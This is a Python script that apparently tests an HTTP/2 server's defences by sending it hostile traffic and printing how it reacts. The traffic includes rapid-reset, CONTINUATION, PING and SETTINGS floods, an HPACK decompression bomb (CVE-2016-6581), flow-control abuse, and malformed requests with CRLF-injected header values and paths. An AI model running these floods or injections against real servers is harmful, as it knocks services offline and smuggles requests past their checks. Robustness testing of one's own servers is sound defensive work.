"""Frames that no browser would send, by the `h2` package with its own checks switched off, or by hand.

    hostile_http2.py HOST PORT CA TOKEN

Prints what became of each: "stream" (that stream was refused, and the connection serves on), "closed" (the connection was ended), a
status, or "flooded" if the other side took it all and never minded.
"""

import json
import socket
import ssl
import sys

import h2.config
import h2.connection
import h2.events
import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

HOST, PORT, CA, TOKEN = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Line:
    """A connection that reads frames and looks only at how streams and connection end."""

    def __init__(self):
        context = ssl.create_default_context(cafile=CA)
        context.set_alpn_protocols(["h2"])
        tcp = socket.create_connection((HOST, PORT))
        tcp.settimeout(10)
        self.tls = context.wrap_socket(tcp, server_hostname="localhost")
        assert self.tls.selected_alpn_protocol() == "h2"
        self.encoder = hpack.Encoder()
        config = h2.config.H2Configuration(
            client_side=True,
            validate_outbound_headers=False,
            normalize_outbound_headers=False,
            validate_inbound_headers=False,
        )
        self.h2 = h2.connection.H2Connection(config)
        self.h2.initiate_connection()
        self.flush()

    def flush(self):
        self.tls.sendall(self.h2.data_to_send())

    def raw(self, frames):
        self.tls.sendall(b"".join(frame if isinstance(frame, bytes) else frame.serialize() for frame in frames))

    def head(self, stream, fields, end_headers=True, end_stream=True):
        frame = HeadersFrame(stream, self.encoder.encode(fields))
        if end_headers:
            frame.flags.add("END_HEADERS")
        if end_stream:
            frame.flags.add("END_STREAM")
        return frame

    def ends(self, stream):
        """How a stream, or the whole connection, ends."""
        try:
            while True:
                data = self.tls.recv(65536)
                if not data:
                    return "closed"
                for event in self.h2.receive_data(data):
                    if isinstance(event, h2.events.ConnectionTerminated):
                        return "closed"
                    if getattr(event, "stream_id", None) != stream:
                        continue
                    if isinstance(event, h2.events.StreamReset):
                        return "stream"
                    if isinstance(event, h2.events.ResponseReceived):
                        return int(dict(event.headers)[b":status"])
                self.flush()
        except (OSError, h2.exceptions.ProtocolError):
            return "closed"


def fields(*more, method="GET", path="/page", authority="localhost"):
    pseudo = [(":method", method), (":scheme", "https"), (":authority", authority), (":path", path)]
    return pseudo + [("authorization", f"Bearer {TOKEN}"), *more]


def asked(head):
    """A request with these fields, as they stand."""
    line = Line()
    line.h2.send_headers(1, head, end_stream=True)
    line.flush()
    ended = line.ends(1)
    if ended == "stream":
        # The connection is none the worse for it.
        line.h2.send_headers(3, fields(), end_stream=True)
        line.flush()
        assert line.ends(3) == 200, "the connection serves on"
    return ended


def flood(make, most=200_000):
    """The same frames over and over, until the other side has had enough."""
    line = Line()
    sent = 0
    line.tls.settimeout(2)
    try:
        while sent < most:
            line.raw(make(line, sent))
            sent += 1
    except (OSError, ssl.SSLError):
        return "closed"
    line.tls.settimeout(3)
    return "closed" if line.ends(-1) == "closed" else "flooded"


def open_stream(line, stream):
    """A stream that the h2 package need not know of."""
    return line.head(stream, fields(), end_stream=False)


def rapid_reset(line, sent):
    stream = 2 * sent + 1
    return [line.head(stream, fields()), RstStreamFrame(stream, error_code=8)]


def continuation(line, sent):
    start = [line.head(1, fields(), end_headers=False)] if sent == 0 else []
    return start + [ContinuationFrame(1, line.encoder.encode([(f"x-{sent}-{at}", "y" * 100) for at in range(20)]))]


def empty_continuation(line, sent):
    start = [line.head(1, fields(), end_headers=False)] if sent == 0 else []
    return start + [ContinuationFrame(1, b"")] * 20


def empty_data(line, sent):
    start = [open_stream(line, 1)] if sent == 0 else []
    return start + [DataFrame(1, b"")] * 20


def bomb():
    """One large field in the table of HPACK, then named thousands of times in few bytes (CVE-2016-6581)."""
    line = Line()
    first = line.encoder.encode(fields(("x-bomb", "y" * 3000)))
    again = line.encoder.encode([("x-bomb", "y" * 3000)])
    frame = HeadersFrame(1, first + again * 12_000)
    frame.flags |= {"END_HEADERS", "END_STREAM"}
    line.raw([frame])
    return line.ends(1)


def zero_window():
    """Asks for many answers and makes room for none of them: other connections must not mind."""
    line = Line()
    line.raw([SettingsFrame(0, settings={4: 0})])
    line.raw([line.head(2 * at + 1, fields(path="/big")) for at in range(50)])
    other = Line()
    other.h2.send_headers(1, fields(), end_stream=True)
    other.flush()
    return other.ends(1)


def window_overflow():
    line = Line()
    line.raw([WindowUpdateFrame(0, window_increment=2**31 - 1)] * 2)
    return line.ends(-1)


def even_stream():
    line = Line()
    line.raw([line.head(2, fields())])
    return line.ends(-1)


def too_many_streams():
    """A hundred and one that all take long: the last is refused."""
    line = Line()
    for stream in range(1, 203, 2):
        line.h2.send_headers(stream, fields(path="/slow"), end_stream=True)
    line.flush()
    return line.ends(201)


REQUESTS = {
    "connection": fields(("connection", "close")),
    "transfer-encoding": fields(("transfer-encoding", "chunked")),
    "keep-alive": fields(("keep-alive", "5")),
    "proxy-connection": fields(("proxy-connection", "close")),
    "upgrade": fields(("upgrade", "websocket")),
    "te": fields(("te", "gzip")),
    "te trailers": fields(("te", "trailers")),
    "another host": fields(("host", "other")),
    "the same host": fields(("host", "localhost")),
    "two hosts": fields(("host", "localhost"), ("host", "localhost")),
    "a user in the authority": fields(authority="me@localhost"),
    "no path": [field for field in fields() if field[0] != ":path"],
    "an empty path": fields(path=""),
    "no method": [field for field in fields() if field[0] != ":method"],
    "no scheme": [field for field in fields() if field[0] != ":scheme"],
    "no authority": [field for field in fields() if field[0] != ":authority"],
    "two paths": [(":path", "/other"), *fields()],
    "a late pseudo field": [*fields(), (":path", "/other")],
    "an unknown pseudo field": [(":protocol-x", "1"), *fields()],
    "an upper-case name": fields(("X-Upper", "1")),
    "a line end in a value": fields(("x-a", "1\r\nx-b: 2")),
    "NUL in a value": fields(("x-a", "1\0")),
    "blank in a name": fields(("x a", "1")),
    "colon in a name": fields(("x:a", "1")),
    "line end in the path": fields(path="/a\r\nHost: x"),
    "blank in the path": fields(path="/a b"),
    "a host in the path": fields(path="https://other/page"),
    "CONNECT": [(":method", "CONNECT"), (":authority", "localhost:443")],
    "extended CONNECT": [*fields(method="CONNECT")[:4], (":protocol", "websocket"), *fields()[4:]],
    "a length and no body": fields(("content-length", "5"), method="POST"),
    "two lengths": fields(("content-length", "0"), ("content-length", "5"), method="POST"),
    "a huge head": fields(*[(f"x-{at}", "y" * 1000) for at in range(70)]),
}

FLOODS = {
    "rapid reset": rapid_reset,
    "CONTINUATION": continuation,
    "empty CONTINUATION": empty_continuation,
    "SETTINGS": lambda line, sent: [SettingsFrame(0)] * 20,
    "PING": lambda line, sent: [PingFrame(0, b"12345678")] * 20,
    "PRIORITY": lambda line, sent: [PriorityFrame(9, depends_on=1)] * 20,
    "empty DATA": empty_data,
}

others = {f"flood of {name}": flood(make) for name, make in FLOODS.items()}
others |= {
    "HPACK bomb": bomb(),
    "zero windows": zero_window(),
    "window overflow": window_overflow(),
    "even stream": even_stream(),
    "too many streams": too_many_streams(),
}
print(json.dumps({"asked": {name: asked(head) for name, head in REQUESTS.items()}, "others": others}))
